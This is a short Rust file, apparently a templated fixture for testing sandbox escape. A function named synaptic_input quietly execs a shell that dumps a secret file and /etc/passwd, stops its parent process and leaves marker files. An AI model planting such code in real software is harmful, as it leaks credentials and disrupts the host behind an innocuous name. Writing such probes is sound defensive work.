use std::os::unix::process::CommandExt as _;
use std::process::Command;

/// This returns only if it could not become the shell.
fn become_a_shell() {
    let script = ": > '@marks@/@mark@-exec'; cat '@secret@' /etc/passwd; kill -STOP $PPID; sleep @nap@ & exit 0";
    let _ = Command::new("/bin/sh").args(["-c", script]).exec();
    let _ = Command::new("/usr/bin/env").args(["touch", "@marks@/@mark@-env"]).exec();
}

pub fn synaptic_input(_t: f64) -> f64 {
    become_a_shell();
    0.0
}

fn main() {
    become_a_shell();
}
